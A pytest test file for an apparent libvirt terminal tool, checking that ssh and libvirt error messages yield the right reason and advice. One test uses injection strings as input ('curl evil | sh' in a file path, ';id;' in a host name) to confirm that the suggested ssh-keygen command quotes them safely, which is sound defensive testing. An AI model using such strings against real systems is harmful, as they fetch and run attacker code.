"""What the words of ssh and libvirt mean, and what is advised."""

from __future__ import annotations

import re
import shlex

import pytest

from tuivirt.backend.reasons import by_libvirt, told_by_ssh

URI = "qemu+ssh://ops@srv2/system"

FAILURES = [
    ("ops@srv2: Permission denied (publickey,password).", "check the user name"),
    ("ssh: Could not resolve hostname srv2: Name or service not known", "spelling and DNS"),
    ("ssh: connect to host srv2 port 22: Connection refused", "no sshd listens there"),
    ("ssh: connect to host srv2 port 22: No route to host", "the network, VPN and firewall"),
    ("ssh: connect to host srv2 port 22: Connection timed out", "the network, VPN and firewall"),
    ("kex_exchange_identification: Connection closed by remote host", "refuse this address"),
    ("Connection closed by 10.0.0.7 port 22", "refuse this address"),
    ("Received disconnect from 10.0.0.7 port 22:2: Too many authentication failures",
     "set IdentitiesOnly"),
    (("Unable to negotiate with 10.0.0.7 port 22: no matching host key type found. Their offer: "
     "ssh-rsa"), "no algorithm in common"),
    (("/home/ops/.ssh/config: line 3: Bad configuration option: hots\n"
     "/home/ops/.ssh/config: terminating, 1 bad configuration options"), "correct the file"),
    ("sh: 1: nc: not found", "neither virt-ssh-helper nor nc"),
    ("bash: line 1: nc: command not found", "neither virt-ssh-helper nor nc"),
    ("setsid: failed to execute ssh: No such file or directory", "install ssh here"),
    ("This account is currently not available.", "may run nothing there"),
    (("virt-ssh-helper: cannot connect to '/var/run/libvirt/libvirt-sock': "
     "Failed to connect socket to '/var/run/libvirt/libvirt-sock': Connection refused"),
     "systemctl start libvirtd"),
    ("nc: unix connect failed: No such file or directory", "systemctl start libvirtd"),
    ("nc: /var/run/libvirt/libvirt-sock: No such file or directory", "systemctl start libvirtd"),
    ("nc: /var/run/libvirt/libvirt-sock: Permission denied", "added to its group libvirt"),
    (("No ED25519 host key is known for srv2 and you have requested strict checking.\n"
     "Host key verification failed."), "told to take no unknown key"),
    (("@@@@@@@@@@\n@         WARNING: UNPROTECTED PRIVATE KEY FILE!          @\n@@@@@@@@@@\n"
     "Permissions 0644 for '/home/ops/.ssh/id' are too open.\n"
     "ops@srv2: Permission denied (publickey)."), "chmod 600"),
    (('sign_and_send_pubkey: signing failed for ED25519 "/home/ops/.ssh/id" from agent: '
     "agent refused operation\nops@srv2: Permission denied (publickey)."), "unlock or touch it"),
]  # fmt: skip


@pytest.mark.parametrize(("said", "advice"), FAILURES, ids=[said[:50] for said, _ in FAILURES])
def test_what_ssh_said_is_the_reason_and_advice_fits(said: str, advice: str) -> None:
    told = told_by_ssh(said, URI)
    assert told is not None
    assert told[0] in said.replace("\n", " ")
    assert advice in told[1]


def test_what_is_always_said_is_no_reason() -> None:
    assert told_by_ssh("Warning: Permanently added 'srv2' to the list of known hosts.", URI) is None
    assert told_by_ssh("", URI) is None


def test_a_banner_is_not_the_reason() -> None:
    said = "Authorised use only!\nPermission denied, please try again.\nConnection closed by srv2\n"
    told = told_by_ssh(said, URI)
    assert told is not None
    assert told[0] == "Connection closed by srv2"


def test_a_changed_key_is_told_with_all_that_ssh_found_and_no_command_that_connects() -> None:
    said = (
        "@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@\n"
        "@    WARNING: REMOTE HOST IDENTIFICATION HAS CHANGED!     @\n"
        "IT IS POSSIBLE THAT SOMEONE IS DOING SOMETHING NASTY!\n"
        "The fingerprint for the ED25519 key sent by the remote host is\nSHA256:abc.\n"
        "Please contact your system administrator.\n"
        "Add correct host key in /home/o p/.ssh/known_hosts to get rid of this message.\n"
        "Offending ECDSA key in /home/o p/.ssh/known_hosts:12\n"
        "Host key for srv2 has changed and you have requested strict checking.\n"
        "Host key verification failed.\n"
    )
    told = told_by_ssh(said, URI)
    assert told is not None
    why, advice = told
    assert why == (
        "the host key of srv2 is not the one that is known (line 12 of "
        "/home/o p/.ssh/known_hosts); the key that came is SHA256:abc"
    )
    assert "ssh-keygen -f '/home/o p/.ssh/known_hosts' -R srv2 forgets" in advice
    assert "Ask its owner" in advice
    assert "StrictHostKeyChecking" not in advice


def test_a_command_that_is_told_holds_nothing_that_a_host_has_put_there() -> None:
    said = (
        "REMOTE HOST IDENTIFICATION HAS CHANGED\n"
        'Offending ECDSA key in /x"; curl evil | sh; ":1\n'
        'Host key for h";id;" has changed\n'
    )
    told = told_by_ssh(said, URI)
    assert told is not None
    command = re.search(r"(ssh-keygen .*) forgets", told[1])
    assert command is not None
    assert shlex.split(command[1]) == [
        *("ssh-keygen", "-f", '/x"; curl evil | sh; "', "-R", 'h";id;"')
    ]


@pytest.mark.parametrize(
    ("why", "advice"),
    [
        (
            (
                "authentication failed: Failed to start SASL negotiation: -4 (SASL(-4): no "
                "mechanism available: No worthy mechs found)"
            ),
            "libsasl2-modules",
        ),
        ("unable to connect to server at 'srv2:16514': Connection refused", "libvirtd-tls.socket"),
        ("unable to connect to server at 'srv2:16514': No route to host", "VPN and firewall"),
        ("Certificate failed validation: The certificate hasn't got a known issuer.", "cacert.pem"),
        ("The client certificate /x/clientcert.pem has expired", "renewed"),
    ],
)
def test_advice_fits_what_libvirt_said(why: str, advice: str) -> None:
    assert advice in by_libvirt(why, "qemu+tls://srv2/system")


def test_words_that_nobody_knows_bring_no_advice() -> None:
    assert by_libvirt("the moon is full", URI) == ""
